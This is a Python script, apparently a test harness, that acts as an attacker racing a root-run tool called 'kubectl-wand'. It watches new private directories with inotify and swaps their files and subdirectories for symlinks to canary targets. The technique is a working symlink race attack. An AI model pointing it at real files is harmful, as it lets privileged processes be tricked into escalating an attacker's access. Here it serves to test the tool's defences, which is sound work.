"""An attacker of the target's uid: swaps kubectl-wand's private files for symlinks the moment they appear.

Usage: racer.py BASE PREFIX CANARY_FILE CANARY_DIR
Watches BASE (inotify) for directories named PREFIX*; in each, every new entry is replaced by a symlink to
CANARY_FILE as soon as it is created (in every third one, all but the bootstrap and the socket, so the
injection goes on and what is made later, like a shipped debugpy, is attacked too), and every other
directory is itself renamed away and replaced by a symlink to CANARY_DIR. A root process that then chowns, chmods or creates by path acts on the canaries.
Prints READY once watching, and on SIGTERM the number of swaps it made.
"""
import ctypes
import os
import signal
import struct
import sys

IN_CREATE, IN_MOVED_TO, IN_ISDIR = 0x100, 0x80, 0x40000000
EVENT = struct.Struct("iIII")

base, prefix, canary_file, canary_dir = sys.argv[1:5]
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(0)
watches = {libc.inotify_add_watch(fd, base.encode(), IN_CREATE | IN_MOVED_TO): base}
swaps = {"file": 0, "dir": 0}
dirs_seen = 0
spared = set()  # directories whose bootstrap and socket are left alone


def done(*_):
    print("SWAPS file=%d dir=%d" % (swaps["file"], swaps["dir"]), flush=True)
    os._exit(0)


signal.signal(signal.SIGTERM, done)


def swap(path, target, kind):
    try:
        os.rename(path, path + ".taken")
    except OSError:
        try:
            os.unlink(path)
        except OSError:
            return
    try:
        os.symlink(target, path)
        swaps[kind] += 1
    except OSError:
        pass


def watch_dir(path):
    # root makes it 0700 and hands it over (chown) right after mkdir: retry until we may watch it
    for _ in range(20000):
        wd = libc.inotify_add_watch(fd, path.encode(), IN_CREATE | IN_MOVED_TO)
        if wd >= 0:
            watches[wd] = path
            try:
                names = os.listdir(path)
            except OSError:
                names = []
            for name in names:
                if path in spared and name in ("bootstrap.py", "s"):
                    continue
                if not name.endswith(".taken") and not os.path.islink(os.path.join(path, name)):
                    swap(os.path.join(path, name), canary_file, "file")
            return True
        if not os.path.lexists(path):
            return False
    return False


print("READY pid=%d" % os.getpid(), flush=True)
while True:
    data = os.read(fd, 65536)
    offset = 0
    while offset < len(data):
        wd, mask, _cookie, length = EVENT.unpack_from(data, offset)
        name = data[offset + EVENT.size:offset + EVENT.size + length].rstrip(b"\0").decode()
        offset += EVENT.size + length
        where = watches.get(wd)
        if where is None or name.endswith(".taken"):
            continue
        path = os.path.join(where, name)
        if where == base:
            if name.startswith(prefix) and mask & IN_ISDIR:
                dirs_seen += 1
                if dirs_seen % 3 == 0:
                    spared.add(path)
                if watch_dir(path) and dirs_seen % 2 == 0:
                    swap(path, canary_dir, "dir")
        elif where in spared and name in ("bootstrap.py", "s"):
            continue
        elif not os.path.islink(path):  # not our own symlink
            swap(path, canary_file, "file")
